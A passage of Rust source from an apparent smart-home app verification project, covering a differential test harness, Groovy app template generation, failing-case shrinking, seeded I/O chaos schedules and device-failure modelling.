    pub groups: usize,
    /// Union of violated property ids across groups (sequential run).
    pub violated: BTreeSet<u32>,
    /// States stored by the sequential run.
    pub states: usize,
    /// Transitions applied by the sequential run.
    pub transitions: usize,
    /// True when any of the four runs truncated (counts not compared).
    pub truncated: bool,
    /// True when the Promela LTL spot-check ran for this household.
    pub promela_checked: bool,
}

/// Worker count used for the parallel leg of the differential check — small
/// enough for CI runners, large enough that the sharded store actually
/// shards.
pub const PARALLEL_WORKERS: usize = 3;

/// Households at or below these sizes also get the Promela LTL spot-check.
const PROMELA_MAX_APPS: usize = 2;
const PROMELA_MAX_DEVICES: usize = 4;

fn pipeline_for(household: &Household, workers: usize, sliced: bool) -> Pipeline {
    let mut pipeline = Pipeline::with_events(household.events).with_workers(workers);
    if household.failures {
        pipeline = pipeline.with_failures();
    }
    if sliced {
        pipeline.search = pipeline.search.clone().sliced();
    }
    pipeline
}

fn fleet_truncated(report: &FleetReport) -> bool {
    report.groups.iter().any(|g| g.report.stats.truncated || g.report.stats.states_capped)
}

fn outcome_detail(label: &str, a: &[GroupOutcome], b: &[GroupOutcome]) -> String {
    format!("{label}: sequential {a:?} vs {b:?}")
}

/// Runs the four-way differential check on one household.
///
/// Returns the aggregate report when every engine agreed, or the first
/// [`Divergence`] found.  Deterministic: same household, same result.
pub fn check_household(household: &Household) -> Result<HouseholdReport, Divergence> {
    let seed = household.seed;
    let diverge = |phase: Phase, detail: String| {
        // A divergence is the harness's most valuable event: land it in the
        // flight recorder so a later dump (e.g. a daemon degrade in the same
        // process) carries the differential context too.
        flight::record(
            Level::Error,
            EventCode::Diagnostic,
            &format!("differential divergence at seed {seed} ({phase}): {detail}"),
        );
        Divergence { seed, phase, detail }
    };

    let refs: Vec<&str> = household.sources.iter().map(String::as_str).collect();
    let apps =
        iotsan::translate_sources(&refs).map_err(|e| diverge(Phase::Translate, e.to_string()))?;
    let config = &household.config;

    // --- Sequential reference run -----------------------------------------
    let seq_pipeline = pipeline_for(household, 1, false);
    let mut seq_cache = VerificationCache::new();
    let seq = seq_pipeline.verify_fleet(&apps, config, &mut seq_cache);
    let seq_outcome = seq.outcome();
    let mut truncated = fleet_truncated(&seq);

    // --- Parallel workers must reproduce it exactly ------------------------
    let par_pipeline = pipeline_for(household, PARALLEL_WORKERS, false);
    let par = par_pipeline.verify_fleet(&apps, config, &mut VerificationCache::new());
    truncated |= fleet_truncated(&par);
    if !truncated && par.outcome() != seq_outcome {
        return Err(diverge(
            Phase::Parallel,
            outcome_detail("parallel outcome mismatch", &seq_outcome, &par.outcome()),
        ));
    }
    if truncated && violated_of(&par.outcome()) != violated_of(&seq_outcome) {
        // Even truncated runs explore in a deterministic order, but depth
        // caps make count equality too strong — hold the verdict sets only.
        return Err(diverge(
            Phase::Parallel,
            outcome_detail("parallel verdicts mismatch", &seq_outcome, &par.outcome()),
        ));
    }

    // --- Slicing must preserve verdicts and never grow the search ----------
    let sliced_pipeline = pipeline_for(household, 1, true);
    let sliced = sliced_pipeline.verify_fleet(&apps, config, &mut VerificationCache::new());
    let sliced_outcome = sliced.outcome();
    if sliced_outcome.len() != seq_outcome.len() {
        return Err(diverge(
            Phase::Sliced,
            format!("group count {} vs sliced {}", seq_outcome.len(), sliced_outcome.len()),
        ));
    }
    for (s, g) in seq_outcome.iter().zip(sliced_outcome.iter()) {
        if s.apps != g.apps || s.violated_properties != g.violated_properties {
            return Err(diverge(
                Phase::Sliced,
                outcome_detail("sliced verdicts mismatch", &seq_outcome, &sliced_outcome),
            ));
        }
    }
    let (seq_states, sliced_states) = (states_of(&seq_outcome), states_of(&sliced_outcome));
    if !truncated && !fleet_truncated(&sliced) && sliced_states > seq_states {
        return Err(diverge(
            Phase::Sliced,
            format!("slicing grew the search: {sliced_states} states vs {seq_states}"),
        ));
    }
    truncated |= fleet_truncated(&sliced);

    // --- Warm cache: byte-identical verdicts, zero re-checking -------------
    let warm = seq_pipeline.verify_fleet(&apps, config, &mut seq_cache);
    if warm.outcome() != seq_outcome {
        return Err(diverge(
            Phase::WarmCache,
            outcome_detail("warm outcome mismatch", &seq_outcome, &warm.outcome()),
        ));
    }
    if warm.cache_hits != warm.groups.len() || warm.cache_misses != 0 {
        return Err(diverge(
            Phase::WarmCache,
            format!(
                "expected {} cache hits, got {} hits / {} misses",
                warm.groups.len(),
                warm.cache_hits,
                warm.cache_misses
            ),
        ));
    }

    // --- Promela spot-check on small instances ------------------------------
    let promela_checked =
        apps.len() <= PROMELA_MAX_APPS && config.devices.len() <= PROMELA_MAX_DEVICES;
    if promela_checked {
        check_promela(&seq_pipeline, &apps, config, &seq.violated_properties())
            .map_err(|detail| diverge(Phase::Promela, detail))?;
    }

    Ok(HouseholdReport {
        groups: seq.groups.len(),
        violated: seq.violated_properties(),
        states: states_of(&seq_outcome),
        transitions: seq_outcome.iter().map(|g| g.transitions).sum(),
        truncated,
        promela_checked,
    })
}

fn violated_of(outcome: &[GroupOutcome]) -> Vec<BTreeSet<u32>> {
    outcome.iter().map(|g| g.violated_properties.clone()).collect()
}

fn states_of(outcome: &[GroupOutcome]) -> usize {
    outcome.iter().map(|g| g.states_stored).sum()
}

/// Asserts the Promela emission carries every property the native checker
/// evaluated — same id, same spec-derived LTL body — and in particular every
/// natively-violated property.
fn check_promela(
    pipeline: &Pipeline,
    apps: &[iotsan::ir::IrApp],
    config: &SystemConfig,
    violated: &BTreeSet<u32>,
) -> Result<(), String> {
    let text = pipeline.emit_promela(apps, config);
    let properties = pipeline.properties_for(config);
    for spec in properties.specs() {
        let block = format!("ltl p{} {{ {} }}", spec.id, spec.to_ltl());
        if !text.contains(&block) {
            return Err(format!("property {} missing or mangled: wanted `{block}`", spec.id));
        }
    }
    for id in violated {
        if !text.contains(&format!("ltl p{id} ")) {
            return Err(format!("natively-violated property {id} absent from Promela emission"));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::household::SizeProfile;

    #[test]
    fn a_sweep_of_seeds_agrees_across_engines() {
        for seed in 0..15 {
            let household = Household::generate(seed, &SizeProfile::default());
            check_household(&household).unwrap_or_else(|d| panic!("{d}"));
        }
    }

    #[test]
    fn the_empty_household_checks_cleanly() {
        let household = Household {
            seed: 0,
            events: 1,
            failures: false,
            sources: Vec::new(),
            config: SystemConfig::new(),
        };
        let report = check_household(&household).unwrap_or_else(|d| panic!("{d}"));
        assert_eq!(report.groups, 0);
        assert!(report.violated.is_empty());
    }

    #[test]
    fn a_mangled_source_reports_a_translate_divergence() {
        let mut household = Household::generate(3, &SizeProfile::default());
        household.sources.push("definition( ".to_string());
        let err = check_household(&household).expect_err("must fail to translate");
        assert_eq!(err.phase, Phase::Translate);
        assert_eq!(err.seed, 3);
    }
}
