//! Parameterized app templates: groovy/IFTTT-style automations composed from
//! subscribe / guard / command / schedule / app-state / fake-event fragments.
//!
//! A [`ScenarioApp`] is a structured description of one generated smart app
//! — which device input triggers it, an optional guard, and a list of action
//! fragments — that renders to SmartThings Groovy source
//! ([`ScenarioApp::to_groovy`]).  Rendering to *source* rather than straight
//! to IR is deliberate: every generated household exercises the real
//! groovy→IR frontend, the sources double as daemon NDJSON bundles, and a
//! household serializes to a committable JSON fixture with no bespoke IR
//! codec.  The fragment shapes mirror the market-corpus idioms
//! (`iotsan_apps::market`), so generated apps stay inside the translated
//! Groovy subset by construction.

use crate::rng::SplitMix64;

/// The location modes generated guards and mode actions draw from.
pub const MODES: &[&str] = &["Home", "Away", "Night"];

/// A sensor capability the trigger fragment can subscribe to:
/// `(capability, attribute, discrete values)`.  Numeric attributes list no
/// values — subscriptions on them are value-less, guards use thresholds.
pub const SENSOR_POOL: &[(&str, &str, &[&str])] = &[
    ("motionSensor", "motion", &["active", "inactive"]),
    ("contactSensor", "contact", &["open", "closed"]),
    ("presenceSensor", "presence", &[]),
    ("smokeDetector", "smoke", &["detected", "clear"]),
    ("waterSensor", "water", &["wet", "dry"]),
    ("button", "button", &["pushed", "held"]),
    ("temperatureMeasurement", "temperature", &[]),
    ("illuminanceMeasurement", "illuminance", &[]),
];

/// An actuator capability the command fragments can target:
/// `(capability, commands, primary attribute, "active" value)`.
pub const ACTUATOR_POOL: &[(&str, &[&str], &str, &str)] = &[
    ("switch", &["on", "off"], "switch", "on"),
    ("lock", &["lock", "unlock"], "lock", "unlocked"),
    ("valve", &["open", "close"], "valve", "open"),
    ("alarm", &["siren", "off"], "alarm", "siren"),
    ("sprinkler", &["on", "off"], "sprinkler", "on"),
    ("fanControl", &["on", "off"], "switch", "on"),
    ("garageDoorControl", &["open", "close"], "door", "open"),
    ("windowShade", &["open", "close"], "windowShade", "open"),
];

/// What fires the generated app's handler (the subscribe fragment).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TriggerFragment {
    /// `subscribe(trigger, "attr.value", handler)` — or value-less
    /// `subscribe(trigger, "attr", handler)` when `value` is `None`.
    Device {
        /// Bound device label.
        label: String,
        /// Trigger capability.
        capability: String,
        /// Subscribed attribute.
        attribute: String,
        /// Specific value, or `None` for any-value subscription.
        value: Option<String>,
    },
    /// `subscribe(app, "touch", handler)` — used for households with no
    /// sensors at all, so even device-free homes get runnable apps.
    AppTouch,
}

/// An optional guard wrapped around the handler body.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum GuardFragment {
    /// No guard.
    None,
    /// `if (location.mode == "mode") { ... }`
    ModeIs(String),
    /// `if (trigger.currentAttr == "value") { ... }`
    TriggerAttrIs {
        /// Guarded attribute (capitalized into the `currentX` getter).
        attribute: String,
        /// Expected value.
        value: String,
    },
    /// `if (trigger.currentAttr < threshold) { ... }`
    TriggerAttrBelow {
        /// Guarded numeric attribute.
        attribute: String,
        /// Threshold.
        threshold: i64,
    },
}

/// One action the handler performs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ActionFragment {
    /// `actuator.cmd()` — the command fragment.
    Command {
        /// Command name.
        command: String,
    },
    /// `runIn(delay, scenarioTick)` plus a `scenarioTick` method issuing the
    /// command — the schedule fragment.
    ScheduleCommand {
        /// Delay in seconds.
        delay: usize,
        /// Command the scheduled callback issues.
        command: String,
    },
    /// `setLocationMode("mode")`.
    SetMode(String),
    /// `sendPush("...")` — a notification sink (exercises communication
    /// observations).
    Push,
    /// `state.fired = 1` — the app-state fragment (exercises persistent
    /// state interning).
    AppState,
    /// `sendEvent(name: "attr", value: "value")` — the fake-event fragment
    /// (exercises the security properties' sensitive-command observation).
    FakeEvent {
        /// Spoofed attribute.
        attribute: String,
        /// Spoofed value.
        value: String,
    },
}

/// A fully instantiated app template.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScenarioApp {
    /// Unique display name (also the `AppConfig` key).
    pub name: String,
    /// The subscribe fragment.
    pub trigger: TriggerFragment,
    /// Optional guard around the body.
    pub guard: GuardFragment,
    /// Action fragments, in order.
    pub actions: Vec<ActionFragment>,
    /// Labels of the actuator devices bound to the `actuator` input (empty
    /// when no action needs a device).
    pub actuator_labels: Vec<String>,
    /// Capability of the `actuator` input when bound.
    pub actuator_capability: Option<String>,
}

/// Capitalizes the first ASCII letter — `motion` → `Motion`, for the
/// `currentMotion` attribute getter.
fn capitalize(attribute: &str) -> String {
    let mut chars = attribute.chars();
    match chars.next() {
        Some(first) => first.to_ascii_uppercase().to_string() + chars.as_str(),
        None => String::new(),
    }
}

impl ScenarioApp {
    /// True when any action issues (or schedules) a device command.
    pub fn commands_devices(&self) -> bool {
        self.actions.iter().any(|a| {
            matches!(a, ActionFragment::Command { .. } | ActionFragment::ScheduleCommand { .. })
        })
    }

    /// Renders the app as SmartThings Groovy source.
    pub fn to_groovy(&self) -> String {
        let mut prefs = String::new();
        if let TriggerFragment::Device { capability, .. } = &self.trigger {
            prefs.push_str(&format!(
                "    section(\"Trigger\") {{ input \"trigger\", \"capability.{capability}\" }}\n"
            ));
        }
        if let Some(capability) = &self.actuator_capability {
            let multiple = if self.actuator_labels.len() > 1 { ", multiple: true" } else { "" };
            prefs.push_str(&format!(
                "    section(\"Act on\") {{ input \"actuator\", \"capability.{capability}\"{multiple} }}\n"
            ));
        }

        let subscribe = match &self.trigger {
            TriggerFragment::Device { attribute, value: Some(value), .. } => {
                format!("subscribe(trigger, \"{attribute}.{value}\", scenarioHandler)")
            }
            TriggerFragment::Device { attribute, value: None, .. } => {
                format!("subscribe(trigger, \"{attribute}\", scenarioHandler)")
            }
            TriggerFragment::AppTouch => "subscribe(app, \"touch\", scenarioHandler)".to_string(),
        };

        let mut body = String::new();
        let mut tick = String::new();
        for action in &self.actions {
            match action {
                ActionFragment::Command { command } => {
                    body.push_str(&format!("    actuator.{command}()\n"));
                }
                ActionFragment::ScheduleCommand { delay, command } => {
                    body.push_str(&format!("    runIn({delay}, scenarioTick)\n"));
                    tick = format!("def scenarioTick() {{\n    actuator.{command}()\n}}\n");
                }
                ActionFragment::SetMode(mode) => {
                    body.push_str(&format!("    setLocationMode(\"{mode}\")\n"));
                }
                ActionFragment::Push => {
                    body.push_str("    sendPush(\"scenario alert\")\n");
                }
                ActionFragment::AppState => {
                    body.push_str("    state.fired = 1\n");
                }
                ActionFragment::FakeEvent { attribute, value } => {
                    body.push_str(&format!(
                        "    sendEvent(name: \"{attribute}\", value: \"{value}\")\n"
                    ));
                }
            }
        }

        let guarded = match &self.guard {
            GuardFragment::None => body,
            GuardFragment::ModeIs(mode) => {
                format!("    if (location.mode == \"{mode}\") {{\n    {}    }}\n", indent(&body))
            }
            GuardFragment::TriggerAttrIs { attribute, value } => format!(
                "    if (trigger.current{} == \"{value}\") {{\n    {}    }}\n",
                capitalize(attribute),
                indent(&body)
            ),
            GuardFragment::TriggerAttrBelow { attribute, threshold } => format!(
                "    if (trigger.current{} < {threshold}) {{\n    {}    }}\n",
                capitalize(attribute),
                indent(&body)
            ),
        };

        format!(
            "definition(name: \"{name}\", namespace: \"scenario\", author: \"factory\", \
             description: \"Generated scenario automation.\")\n\
             preferences {{\n{prefs}}}\n\
             def installed() {{\n    {subscribe}\n}}\n\
             def scenarioHandler(evt) {{\n{guarded}}}\n{tick}",
            name = self.name,
        )
    }
}

/// Re-indents every line of an already-rendered body by one level.
fn indent(body: &str) -> String {
    body.lines().map(|l| format!("{l}\n    ")).collect::<String>()
}

/// Draws the guard for an app whose trigger is `trigger`, using only
/// attributes the trigger device actually has.
pub fn draw_guard(rng: &mut SplitMix64, trigger: &TriggerFragment) -> GuardFragment {
    match rng.below(4) {
        0 => GuardFragment::None,
        1 => GuardFragment::ModeIs((*rng.pick(MODES)).to_string()),
        _ => match trigger {
            TriggerFragment::Device { attribute, .. } => {
                match SENSOR_POOL.iter().find(|(_, attr, _)| attr == attribute) {
                    Some((_, attr, values)) if !values.is_empty() => GuardFragment::TriggerAttrIs {
                        attribute: (*attr).to_string(),
                        value: (*rng.pick(values)).to_string(),
                    },
                    Some((_, attr, _)) => GuardFragment::TriggerAttrBelow {
                        attribute: (*attr).to_string(),
                        threshold: [30, 50, 68][rng.below(3)],
                    },
                    None => GuardFragment::None,
                }
            }
            TriggerFragment::AppTouch => GuardFragment::ModeIs((*rng.pick(MODES)).to_string()),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_app() -> ScenarioApp {
        ScenarioApp {
            name: "Scn 0 motion".into(),
            trigger: TriggerFragment::Device {
                label: "d0MotionSensor".into(),
                capability: "motionSensor".into(),
                attribute: "motion".into(),
                value: Some("active".into()),
            },
            guard: GuardFragment::ModeIs("Away".into()),
            actions: vec![
                ActionFragment::Command { command: "on".into() },
                ActionFragment::AppState,
            ],
            actuator_labels: vec!["d1Switch".into()],
            actuator_capability: Some("switch".into()),
        }
    }

    #[test]
    fn rendered_groovy_contains_every_fragment() {
        let text = sample_app().to_groovy();
        assert!(text.contains("subscribe(trigger, \"motion.active\", scenarioHandler)"), "{text}");
        assert!(text.contains("if (location.mode == \"Away\")"), "{text}");
        assert!(text.contains("actuator.on()"), "{text}");
        assert!(text.contains("state.fired = 1"), "{text}");
        assert!(text.contains("input \"trigger\", \"capability.motionSensor\""), "{text}");
    }

    #[test]
    fn rendered_groovy_translates_through_the_real_frontend() {
        let source = sample_app().to_groovy();
        let apps = iotsan::translate_sources(&[&source]).expect("generated groovy translates");
        assert_eq!(apps.len(), 1);
        assert_eq!(apps[0].handlers.len(), 1);
        assert_eq!(apps[0].handlers[0].device_commands(), vec![("actuator".into(), "on".into())]);
    }

    #[test]
    fn schedule_fragment_emits_the_tick_method() {
        let mut app = sample_app();
        app.actions = vec![ActionFragment::ScheduleCommand { delay: 60, command: "off".into() }];
        let text = app.to_groovy();
        assert!(text.contains("runIn(60, scenarioTick)"), "{text}");
        assert!(text.contains("def scenarioTick()"), "{text}");
        let apps = iotsan::translate_sources(&[&text]).expect("schedule template translates");
        assert!(!apps[0].handlers.is_empty());
    }
}
