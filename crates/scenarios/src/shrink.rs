//! Greedy deterministic shrinking of failing households.
//!
//! When the differential oracle (or any predicate) rejects a household, the
//! shrinker reduces it to a local minimum that still fails: it repeatedly
//! tries removing one app, pruning unreferenced devices, dropping one custom
//! property, lowering the event bound to 1 and disabling failure injection —
//! keeping each surgery only if the predicate still holds — until a full
//! pass changes nothing.  The order of attempts is fixed, so the same
//! failing household always shrinks to the same minimal reproduction (which
//! is what makes committed `tests/golden/` fixtures stable).

use crate::household::Household;

/// Shrinks `household` to a local minimum that still satisfies
/// `still_fails`.
///
/// `still_fails` must hold for the input household; the returned household
/// satisfies it too and no single shrinking step can reduce it further.
/// Deterministic: no randomness, fixed attempt order, fixpoint termination
/// (every accepted step strictly shrinks apps, devices, properties, the
/// event bound or the failure flag).
pub fn shrink(household: &Household, still_fails: impl Fn(&Household) -> bool) -> Household {
    debug_assert!(still_fails(household), "shrink requires a failing input");
    let mut current = household.clone();
    loop {
        let mut progressed = false;

        // Remove apps, highest index first so earlier indices stay valid.
        let mut i = current.sources.len();
        while i > 0 {
            i -= 1;
            let candidate = current.without_app(i);
            if still_fails(&candidate) {
                current = candidate;
                progressed = true;
            }
        }

        // Drop devices no surviving binding references (and with them any
        // property that would dangle).
        let pruned = current.without_unused_devices();
        if pruned != current && still_fails(&pruned) {
            current = pruned;
            progressed = true;
        }

        // Remove custom properties, highest index first.
        let mut k = current.config.custom_properties.len();
        while k > 0 {
            k -= 1;
            let candidate = current.without_property(k);
            if still_fails(&candidate) {
                current = candidate;
                progressed = true;
            }
        }

        // Cheapen the search itself.
        if current.events > 1 {
            let candidate = current.with_events(1);
            if still_fails(&candidate) {
                current = candidate;
                progressed = true;
            }
        }
        if current.failures {
            let candidate = current.without_failures();
            if still_fails(&candidate) {
                current = candidate;
                progressed = true;
            }
        }

        if !progressed {
            return current;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::household::SizeProfile;

    #[test]
    fn shrinks_to_a_single_app_for_an_app_count_predicate() {
        let profile = SizeProfile::default();
        let fat = (0..200)
            .map(|s| Household::generate(s, &profile))
            .find(|h| h.sources.len() >= 3)
            .expect("a 3-app household in the first 200 seeds");
        // "Fails" whenever at least one app is installed: the minimal
        // reproduction is exactly one app and only its devices.
        let minimal = shrink(&fat, |h| !h.sources.is_empty());
        assert_eq!(minimal.sources.len(), 1);
        assert_eq!(minimal.config.apps.len(), 1);
        assert!(minimal.config.custom_properties.is_empty());
        assert_eq!(minimal.events, 1);
        assert!(!minimal.failures);
        // Every surviving device is referenced by the surviving app.
        assert_eq!(minimal.without_unused_devices(), minimal);
    }

    #[test]
    fn shrinking_is_deterministic() {
        let profile = SizeProfile::default();
        let fat = (0..200)
            .map(|s| Household::generate(s, &profile))
            .find(|h| h.sources.len() >= 2)
            .expect("a 2-app household");
        let predicate = |h: &Household| !h.sources.is_empty();
        assert_eq!(shrink(&fat, predicate), shrink(&fat, predicate));
    }

    #[test]
    fn an_already_minimal_household_is_a_fixpoint() {
        let profile = SizeProfile::default();
        let fat = (0..200)
            .map(|s| Household::generate(s, &profile))
            .find(|h| !h.sources.is_empty())
            .expect("an app-bearing household");
        let predicate = |h: &Household| !h.sources.is_empty();
        let minimal = shrink(&fat, predicate);
        assert_eq!(shrink(&minimal, predicate), minimal);
    }
}
