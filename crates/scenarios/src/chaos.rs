//! Seeded chaos schedules for the daemon's self-healing harness.
//!
//! A [`ChaosPlan`] is plain data — which store I/O operations fail, how,
//! and whether a panicking job rides along — generated from a seed with
//! the same splitmix64 discipline as [`crate::Household`]: identical seed,
//! identical schedule, byte for byte.  The `repro chaos` experiment
//! (crate `iotsan-bench`) maps the plan onto the daemon's fault seam,
//! drives a cold-run/restart/warm-run cycle under it, and when an
//! invariant breaks, shrinks the schedule with the same greedy fixpoint
//! idiom as [`fn@crate::shrink`] before emitting a committable JSON
//! reproduction.
//!
//! This crate deliberately does not depend on `iotsan-daemon` (which
//! dev-depends on this crate); the plan's vocabulary mirrors the daemon's
//! fault seam structurally, and the bench harness does the one-line
//! mapping.

use crate::rng::SplitMix64;
use iotsan_telemetry::rows::JsonRow;

/// How an injected store operation fails (mirrors the daemon's fault
/// vocabulary: torn write, full disk, failed fsync, failed rename).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChaosFaultKind {
    /// Half the bytes land, then the write errors (a torn record).
    ShortWrite,
    /// The operation fails outright, like ENOSPC.
    NoSpace,
    /// Fsync reports failure.
    FsyncFail,
    /// Compaction's atomic rename fails.
    RenameFail,
}

impl ChaosFaultKind {
    const ALL: [ChaosFaultKind; 4] = [
        ChaosFaultKind::ShortWrite,
        ChaosFaultKind::NoSpace,
        ChaosFaultKind::FsyncFail,
        ChaosFaultKind::RenameFail,
    ];

    /// The kind's name as it appears in JSON reproductions.
    pub fn name(self) -> &'static str {
        match self {
            ChaosFaultKind::ShortWrite => "short-write",
            ChaosFaultKind::NoSpace => "no-space",
            ChaosFaultKind::FsyncFail => "fsync-fail",
            ChaosFaultKind::RenameFail => "rename-fail",
        }
    }
}

/// One scheduled fault: the 0-based index of the store's mutating I/O
/// operation to fail, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ChaosFault {
    /// Which mutating operation (counted from daemon start) fails.
    pub at: u64,
    /// How it fails.
    pub kind: ChaosFaultKind,
}

/// A complete seeded chaos schedule for one daemon run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChaosPlan {
    /// The seed this plan was generated from (0 for shrunk/hand-built
    /// plans that no longer correspond to a seed).
    pub seed: u64,
    /// The injected I/O faults.
    pub faults: Vec<ChaosFault>,
    /// Whether a deliberately panicking job is mixed into the workload,
    /// exercising worker supervision and the poison quarantine alongside
    /// the I/O faults.
    pub panic_job: bool,
}

impl ChaosPlan {
    /// Generates the schedule for `seed`: 1–4 faults at operation indices
    /// in `0..24` (small enough that most land on operations the workload
    /// actually performs), each with a uniformly chosen kind, plus a 25%
    /// chance of a panicking job.  Fully deterministic.
    pub fn generate(seed: u64) -> ChaosPlan {
        let mut rng = SplitMix64::new(seed);
        let count = rng.range(1, 4);
        let faults = (0..count)
            .map(|_| ChaosFault { at: rng.below(24) as u64, kind: *rng.pick(&ChaosFaultKind::ALL) })
            .collect();
        let panic_job = rng.chance(25);
        ChaosPlan { seed, faults, panic_job }
    }

    /// Greedy deterministic shrinking: repeatedly tries dropping one fault
    /// (highest index first) and disabling the panic job, keeping each
    /// surgery only while `still_fails` holds, until a full pass changes
    /// nothing.  Same failing plan, same minimal reproduction.
    pub fn shrink(&self, still_fails: impl Fn(&ChaosPlan) -> bool) -> ChaosPlan {
        debug_assert!(still_fails(self), "shrink requires a failing input");
        let mut current = self.clone();
        loop {
            let mut progressed = false;
            let mut i = current.faults.len();
            while i > 0 {
                i -= 1;
                let mut candidate = current.clone();
                candidate.faults.remove(i);
                if still_fails(&candidate) {
                    current = candidate;
                    progressed = true;
                }
            }
            if current.panic_job {
                let mut candidate = current.clone();
                candidate.panic_job = false;
                if still_fails(&candidate) {
                    current = candidate;
                    progressed = true;
                }
            }
            if !progressed {
                return current;
            }
        }
    }

    /// Renders the plan as the JSON object committed in chaos
    /// reproductions.
    pub fn to_json(&self) -> String {
        let mut out = format!(
            "{{\n  \"seed\": {},\n  \"panic_job\": {},\n  \"faults\": [",
            self.seed, self.panic_job
        );
        for (i, fault) in self.faults.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push_str("\n    ");
            out.push_str(
                &JsonRow::new().num_u("at", fault.at).str("kind", fault.kind.name()).finish(),
            );
        }
        if !self.faults.is_empty() {
            out.push('\n');
            out.push_str("  ");
        }
        out.push_str("]\n}\n");
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generation_is_deterministic_and_bounded() {
        for seed in 0..200 {
            let a = ChaosPlan::generate(seed);
            let b = ChaosPlan::generate(seed);
            assert_eq!(a, b);
            assert!((1..=4).contains(&a.faults.len()));
            assert!(a.faults.iter().all(|f| f.at < 24));
        }
        // Sanity: the sweep exercises every kind and both panic states.
        let plans: Vec<ChaosPlan> = (0..200).map(ChaosPlan::generate).collect();
        for kind in ChaosFaultKind::ALL {
            assert!(
                plans.iter().any(|p| p.faults.iter().any(|f| f.kind == kind)),
                "{kind:?} never generated"
            );
        }
        assert!(plans.iter().any(|p| p.panic_job));
        assert!(plans.iter().any(|p| !p.panic_job));
    }

    #[test]
    fn shrinking_reaches_a_fixpoint() {
        let plan = ChaosPlan::generate(3);
        // "Fails" whenever any fault remains: minimal plan is one fault.
        let minimal = plan.shrink(|p| !p.faults.is_empty());
        assert_eq!(minimal.faults.len(), 1);
        assert!(!minimal.panic_job);
        assert_eq!(minimal.shrink(|p| !p.faults.is_empty()), minimal);
    }

    #[test]
    fn json_rendering_is_stable() {
        let plan = ChaosPlan {
            seed: 7,
            faults: vec![ChaosFault { at: 2, kind: ChaosFaultKind::NoSpace }],
            panic_job: true,
        };
        let json = plan.to_json();
        assert!(json.contains("\"seed\": 7"));
        assert!(json.contains("{\"at\":2,\"kind\":\"no-space\"}"));
        assert!(json.contains("\"panic_job\": true"));
    }
}
