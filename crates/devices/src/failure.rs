//! Device and communication failure injection.
//!
//! §8 of the paper: "To model natural or induced (e.g., using jamming)
//! device/communication failures, when generating a sensor event we enumerate
//! two scenarios: (i) the sensor is available/online and (ii) the sensor is
//! unavailable/offline. Similarly, whenever receiving a command from a smart
//! app, an actuator may be either online or offline. If a device is offline,
//! it will not change its state and hence not broadcast a state change event
//! to its subscribers. If a device is online, the communication between the
//! device and the hub/cloud may either succeed or fail."
//!
//! [`FailureMode`] enumerates those choices for one step; [`FailurePolicy`]
//! controls which choices the model checker explores.

use crate::device::DeviceId;
use std::fmt;

/// The failure choice attached to a single event-generation or
/// command-delivery step.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum FailureMode {
    /// Everything works: the device is online and the message is delivered.
    #[default]
    None,
    /// The device is offline (battery depleted, hardware fault); it neither
    /// changes state nor notifies subscribers.
    DeviceOffline,
    /// The device is online but the message between device and hub/cloud was
    /// lost (e.g. jamming); the state change or command never arrives.
    CommunicationLost,
}

impl FailureMode {
    /// All failure modes, in the order the checker enumerates them.
    pub const ALL: [FailureMode; 3] =
        [FailureMode::None, FailureMode::DeviceOffline, FailureMode::CommunicationLost];

    /// True when the step is affected by a failure of any kind.
    pub fn is_failure(&self) -> bool {
        !matches!(self, FailureMode::None)
    }
}

impl fmt::Display for FailureMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FailureMode::None => write!(f, "ok"),
            FailureMode::DeviceOffline => write!(f, "device-offline"),
            FailureMode::CommunicationLost => write!(f, "comm-lost"),
        }
    }
}

/// Which failure scenarios the model checker explores.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub enum FailurePolicy {
    /// No failures are injected (the first experiment set in §10.2).
    #[default]
    None,
    /// Enumerate every failure mode at every sensor-event and actuator-command
    /// step (the "with device/communication failures" experiments).
    Exhaustive,
    /// Only the listed devices may fail; all other steps proceed normally.
    /// Used to reproduce targeted scenarios such as Figure 8b (a single failed
    /// motion sensor).
    OnlyDevices(Vec<DeviceId>),
}

impl FailurePolicy {
    /// The failure modes to explore for a step involving `device`.  Returns
    /// a borrowed slice — the action enumerator calls this once per sensor
    /// event per expansion, and the choice sets are static.
    pub fn modes_for(&self, device: DeviceId) -> &'static [FailureMode] {
        const NO_FAILURE: [FailureMode; 1] = [FailureMode::None];
        match self {
            FailurePolicy::None => &NO_FAILURE,
            FailurePolicy::Exhaustive => &FailureMode::ALL,
            FailurePolicy::OnlyDevices(devices) => {
                if devices.contains(&device) {
                    &FailureMode::ALL
                } else {
                    &NO_FAILURE
                }
            }
        }
    }

    /// True when this policy can inject at least one failure.
    pub fn any_failures(&self) -> bool {
        !matches!(self, FailurePolicy::None)
    }
}

/// Statistics about injected failures during a verification run, reported in
/// violation logs so the Output Analyzer can distinguish failure-induced
/// violations from pure app-interaction violations.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct FailureStats {
    /// Number of steps where a device was offline.
    pub device_offline: usize,
    /// Number of steps where communication was lost.
    pub communication_lost: usize,
}

impl FailureStats {
    /// Records one applied failure mode.
    pub fn record(&mut self, mode: FailureMode) {
        match mode {
            FailureMode::None => {}
            FailureMode::DeviceOffline => self.device_offline += 1,
            FailureMode::CommunicationLost => self.communication_lost += 1,
        }
    }

    /// Total number of failures recorded.
    pub fn total(&self) -> usize {
        self.device_offline + self.communication_lost
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_mode_is_ok() {
        assert_eq!(FailureMode::default(), FailureMode::None);
        assert!(!FailureMode::None.is_failure());
        assert!(FailureMode::DeviceOffline.is_failure());
    }

    #[test]
    fn policy_none_never_fails() {
        let p = FailurePolicy::None;
